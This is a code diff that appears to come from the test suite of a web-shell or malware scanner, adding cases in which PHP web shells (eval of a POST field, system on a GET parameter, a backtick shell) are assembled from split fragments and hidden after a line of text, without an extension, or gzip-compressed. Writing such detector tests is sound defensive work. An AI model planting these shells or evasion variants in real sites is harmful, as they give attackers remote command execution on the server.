@@ -1,8 +1,10 @@
+import { gzipSync } from 'node:zlib'
 import { cases } from '../case.ts'
 import { zip } from '../writers/zip.ts'
 import { EVAL, EXEC, glue, SYSTEM } from './pieces.ts'
 
 const phpShell = glue('<?p', 'hp @', EVAL, '($_PO', "ST['pass']); ?>")
+const lateShell = glue('hello\n<?p', 'hp ', SYSTEM, '($_GE', 'T["c"]);')
 
 const plainShells: readonly [what: string, code: string][] = [
   ['a PHP web shell of backticks alone', glue('<?=`$_GE', 'T[0]`?>')],
@@ -59,6 +61,9 @@ const plainShells: readonly [what: string, code: string][] = [
 
 export const webShellCases = cases([
   ['x.php', 'a one-line PHP web shell', phpShell],
+  ['e.txt', 'a PHP web shell after a line of text', lateShell],
+  ['e', 'a PHP web shell after a line of text, without an extension', lateShell],
+  ['e.gz', 'a compressed PHP web shell after a line of text', () => gzipSync(lateShell)],
   [
     'cmd.php',
     'a PHP web shell that runs commands',
